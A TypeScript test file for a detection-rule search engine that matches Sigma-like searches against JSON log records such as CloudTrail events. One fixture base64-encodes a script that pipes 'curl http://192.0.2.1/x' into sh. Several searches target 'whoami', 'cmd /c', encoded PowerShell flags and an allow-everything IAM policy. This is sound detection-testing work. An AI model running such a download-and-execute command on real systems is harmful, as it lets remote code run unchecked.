import { describe, expect, test } from 'vitest';
import type { JsonObject } from '../../engine/record/json.ts';
import { searchMatches } from './try-rule.ts';

const POLICY = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["s3:Get*","*"],"Resource":"*"}]}';
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://192.0.2.1/x | sh\n').toString('base64');

type Case = readonly [sentence: string, search: string, record: JsonObject, matches: boolean];

const tables: { readonly [name: string]: readonly Case[] } = {
  'null, absent and empty': [
    ['null matches an absent field', 'f: null', {}, true],
    ['null matches JSON null', 'f: null', { f: null }, true],
    ['null does not match the empty text', 'f: null', { f: '' }, false],
    ['null does not match an empty array', 'f: null', { f: [] }, false],
    ['null matches an element that is null', 'f: null', { f: ['x', null] }, true],
    ['null matches where the parent is null', 'a.b: null', { a: null }, true],
    ['neq null wants a value', 'f|neq: null', { f: 'x' }, true],
    ['neq null refuses an absent field', 'f|neq: null', {}, false],
    ['null beside a value matches an absent field', 'f: [x, null]', {}, true],
    ['null beside a value leaves other values', 'f: [x, null]', { f: 'y' }, false],
    ['null beside a value leaves the value', 'f: [x, null]', { f: 'x' }, true],
    ['exists is true of JSON null', 'f|exists: true', { f: null }, true],
    ['exists is true of an empty array', 'f|exists: true', { f: [] }, true],
    ['exists false wants absence', 'f|exists: false', {}, true],
    ['the empty text matches the empty text', "f: ''", { f: '' }, true],
    ['the empty text does not match an absent field', "f: ''", {}, false],
  ],
  'numbers and booleans': [
    ['a number matches the text of it', 'f: 42', { f: '42' }, true],
    ['a text matches the number', "f: '42'", { f: 42 }, true],
    ['numbers are equal whatever their writing', 'f: 42', { f: '42.0' }, true],
    ['a number too large to be exact', 'f: 9223372036854775807', JSON.parse('{"f":9223372036854775807}'), true],
    ['a text of it is compared digit by digit', 'f: 9223372036854775807', { f: '9223372036854775806' }, false],
    ['zeros in front make it a text', 'f: 42', { f: '042' }, false],
    ['an account id keeps its zero', "f: '012345678901'", { f: '012345678901' }, true],
    ["'true' matches true", "f: 'true'", { f: true }, true],
    ['true matches "TRUE"', 'f: true', { f: 'TRUE' }, true],
    ['1 does not match true', 'f: 1', { f: true }, false],
    ['no is a text', 'f: no', { f: 'No' }, true],
    ['gt compares numbers in texts', "f|gt: '9'", { f: '10' }, true],
    ['gt does not order text by a number', 'f|gt: 0.2', { f: '127.0.0.1' }, false],
    ['lt orders texts', "f|lt: '2026-02'", { f: '2026-01-31T00:00:00Z' }, true],
  ],
  'case and wildcards': [
    ['case is ignored', 'f: STOPLOGGING', { f: 'StopLogging' }, true],
    ['cased keeps it', 'f|cased: STOPLOGGING', { f: 'StopLogging' }, false],
    ['a final sigma is a sigma', 'f|startswith: ΟΔΟΣ', { f: 'οδοσχ' }, true],
    ['? is one character', 'f: a?c', { f: 'a🔥c' }, true],
    ['* is any run', "f: 'a*c'", { f: 'a\nb\nc' }, true],
    ['an escaped star is a star', "f: 'a\\*c'", { f: 'abc' }, false],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a user agent CloudTrail really writes
    ['dollars and braces are text', "f: 'Jersey/${project.version}*'", { f: 'Jersey/${project.version} (x)' }, true],
    ['windash takes a slash for a dash', "f|contains|windash: ' -enc'", { f: 'x /enc y' }, true],
    ['windash leaves a dash inside a word', "f|contains|windash: 'a-b'", { f: 'a/b' }, false],
  ],
  'arrays and paths': [
    ['any element is enough', 'f: b', { f: ['a', 'b'] }, true],
    ['all wants every value in some element', 'f|all: [a, b]', { f: ['b', 'a'] }, true],
    ['all is not met by one of two', 'f|all: [a, b]', { f: ['a'] }, false],
    ['an empty array has no element', "f: '*'", { f: [] }, false],
    ['neq wants no element to be it', 'f|neq: b', { f: ['a', 'b'] }, false],
    ['a path goes through arrays of objects', 'a.items.port: 22', { a: { items: [{ port: 80 }, { port: 22 }] } }, true],
    ['a literal key wins over nesting', 'a.b: x', { 'a.b': 'y', a: { b: 'x' } }, false],
    ['brackets are part of a name', 'f[0]: x', { 'f[0]': 'x' }, true],
    ['brackets are no index', 'f[0]: x', { f: ['x'] }, false],
    ['a dotted key inside an object', 'u.m.p: 1', { u: { 'm.p': 1 } }, true],
    ['inherited keys are absent', 'constructor.name|exists: true', {}, false],
    ['an own __proto__ is a key', '__proto__.x: 1', JSON.parse('{"__proto__":{"x":1}}'), true],
    ['equality does not match an object', 'f: x', { f: { g: 'x' } }, false],
    ['contains searches the leaves of an object', 'f|contains: Suspended', { f: { g: { Status: 'Suspended' } } }, true],
    ['contains does not search keys', 'f|contains: Status', { f: { Status: 'Enabled' } }, false],
    ['a wildcard searches leaves', "f: '*spend*'", { f: { g: ['Suspended'] } }, true],
  ],
  'documents inside strings': [
    ['a path walks into a policy', 'p.Statement.Effect: allow', { p: POLICY }, true],
    ['also percent-encoded', "p.Statement.Action: '\\*'", { p: encodeURIComponent(POLICY) }, true],
    ['also spaced out', "p.Statement.Resource: '\\*'", { p: JSON.stringify(JSON.parse(POLICY), null, 4) }, true],
    ['contains searches the raw text', `p|contains: '"Effect":"Allow"'`, { p: POLICY }, true],
    [
      'spacing does not hide it',
      `p|contains: '"Effect":"Allow"'`,
      { p: JSON.stringify(JSON.parse(POLICY), null, 2) },
      true,
    ],
    ['percent-encoding does not hide it', `p|contains: '"Effect":"Allow"'`, { p: encodeURIComponent(POLICY) }, true],
    ['on the object around it, too', `r|contains: 's3:Get'`, { r: { doc: encodeURIComponent(POLICY) } }, true],
    ['a broken document is a text', 'p.Statement|exists: true', { p: '{"Statement": ' }, false],
    ['scripts in base64 are searched', "u|contains: 'curl http://'", { u: SCRIPT }, true],
    ['keywords find them, too', "- 'curl http://'", { a: { userData: SCRIPT } }, true],
  ],
  keywords: [
    ['a keyword is part of any value', '- whoami', { a: { b: ['run WHOAMI now'] } }, true],
    ['numbers are searched', '- 42', { a: 1421 }, true],
    ['keys are not', '- userName', { userName: 'x' }, false],
    ['all wants every keyword', "'|all': [one, two]", { a: 'one', b: 'two' }, true],
    ['a keyword may be a regular expression', "'|re': 'wh[o0]ami'", { a: 'wh0ami' }, true],
  ],
  networks: [
    ['an address in the network', "f|cidr: '10.0.0.0/8'", { f: '10.1.2.3' }, true],
    ['all of IPv4', "f|cidr: '0.0.0.0/0'", { f: '203.0.113.9' }, true],
    ['a service name is no address', "f|cidr: '0.0.0.0/0'", { f: 'ec2.amazonaws.com' }, false],
    ['leading zeros are no address', "f|cidr: '10.0.0.0/8'", { f: '10.01.2.3' }, false],
    ['IPv6', "f|cidr: '2001:db8::/33'", { f: '2001:db8:7fff::1' }, true],
    ['IPv6 outside', "f|cidr: '2001:db8::/33'", { f: '2001:db8:8000::1' }, false],
    ['IPv4 is not in IPv6', "f|cidr: '::/0'", { f: '10.0.0.1' }, false],
    ['the dotted end of IPv6', "f|cidr: '::ffff:0:0/96'", { f: '::ffff:10.0.0.1' }, true],
  ],
  'dates, encodings, references': [
    ['the hour, in UTC', 'f|hour: 3', { f: '2026-11-21T03:04:05Z' }, true],
    ['the hour of another zone', 'f|hour: 3', { f: '2026-11-21T05:04:05+02:00' }, true],
    ['a part of a date compares', 'f|hour|gte: 22', { f: '2026-11-21T23:00:00Z' }, true],
    ['the ISO week', 'f|week: 53', { f: '2027-01-01T00:00:00Z' }, true],
    ['epoch milliseconds', 'f|year: 2026', { f: 1_790_000_000_000 }, true],
    [
      'base64 of UTF-16',
      "f|wide|base64offset|contains: 'Invoke'",
      { f: Buffer.from('xxInvoke!', 'utf16le').toString('base64') },
      true,
    ],
    [
      'dashes vary before they are encoded',
      "f|windash|base64offset|contains: 'cmd /c'",
      { f: Buffer.from('cmd -c').toString('base64') },
      true,
    ],
    ['UTF-16 around wildcards', "f|wide: '*ab*cd'", { f: 'xa\u0000b\u0000-c\u0000d\u0000' }, true],
    ['base64 wants the whole', 'f|base64: abc', { f: 'YWJjZA==' }, false],
    ['a reference to another field', 'f|fieldref: g.h', { f: 'X', g: { h: 'x' } }, true],
    ['a reference to a field named by digits', 'f|fieldref: 5', { f: 'x', '5': 'X' }, true],
    ['a reference to nothing', 'f|fieldref: g', { f: 'x' }, false],
    ['a reference inside', 'f|fieldref|contains: g', { f: 'user/alex', g: 'alex' }, true],
    ['neq of a reference', 'f|fieldref|neq: g', { f: 'a', g: 'b' }, true],
  ],
  'one element of an array': [
    ['one element meets the whole map', 's[any]:\n  a: 1\n  b: 2', { s: [{ a: 1, b: 2 }] }, true],
    [
      'two elements with half each do not',
      's[any]:\n  a: 1\n  b: 2',
      {
        s: [
          { a: 1, b: 3 },
          { a: 3, b: 2 },
        ],
      },
      false,
    ],
    ['a single object is one element', 's[any]:\n  a: 1', { s: { a: 1 } }, true],
    ['none', 's[none]:\n  a: 1', { s: [{ a: 2 }] }, true],
    ['all of no elements', 's[all]:\n  a: 1', { s: [] }, false],
    ['all or empty', 's[all_or_empty]:\n  a: 1', {}, true],
  ],
};

describe.each(Object.entries(tables))('%s', (_, cases) => {
  test.each(cases)('%s', (_sentence, search, record, matches) => {
    expect(searchMatches(search, record)).toBe(matches);
  });
});

describe('a policy that allows everything', () => {
  const search = [
    'eventName: PutUserPolicy',
    'requestParameters.policyDocument.Statement[any]:',
    '  Effect: Allow',
    "  Action: ['\\*', '\\*:\\*']",
    "  Resource: '\\*'",
  ].join('\n');
  const record = (policy: unknown): JsonObject => ({
    eventName: 'PutUserPolicy',
    requestParameters: { policyDocument: typeof policy === 'string' ? policy : JSON.stringify(policy) },
  });
  const allow = { Effect: 'Allow', Action: '*', Resource: '*' };
  test.each([
    ['as one statement', { Statement: allow }, true],
    ['as lists', { Statement: [{ ...allow, Action: ['s3:GetObject', '*'], Resource: ['*'] }] }, true],
    ['spaced', JSON.stringify({ Statement: [allow] }, null, 8), true],
    ['percent-encoded', encodeURIComponent(JSON.stringify({ Statement: [allow] })), true],
    ['every service', { Statement: [{ ...allow, Action: '*:*' }] }, true],
    ['denied', { Statement: [{ ...allow, Effect: 'Deny' }] }, false],
    ['one service', { Statement: [{ ...allow, Action: 's3:*' }] }, false],
    [
      'halves in two statements',
      {
        Statement: [
          { ...allow, Resource: 'arn:x' },
          { ...allow, Action: 's3:Get*' },
        ],
      },
      false,
    ],
  ])('%s', (_sentence, policy, matches) => {
    expect(searchMatches(search, record(policy))).toBe(matches);
  });
});
